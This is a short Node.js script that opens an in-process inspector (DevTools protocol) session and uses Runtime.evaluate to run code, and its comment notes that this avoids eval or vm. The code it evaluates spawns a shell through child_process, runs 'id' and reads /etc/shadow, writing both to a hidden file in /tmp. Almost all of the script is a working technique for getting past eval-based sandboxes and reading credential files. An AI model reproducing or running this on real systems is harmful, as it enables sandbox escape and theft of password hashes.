// Runs a shell: opens an in-process node:inspector session and asks the
// DevTools protocol (Runtime.evaluate) to evaluate the code, so the
// evaluation happens through the debugger, not through eval/vm.
'use strict';

const inspector = require('inspector');

const session = new inspector.Session();
session.connect();

const expression =
  "process.mainModule.require('child_process').execSync('sh -c \"id > /tmp/.o; cat /etc/shadow >> /tmp/.o\"').toString()";

session.post('Runtime.evaluate', { expression, includeCommandLineAPI: true }, (err, res) => {
  if (err) console.error(err);
  else console.log(res.result.value);
  session.disconnect();
});
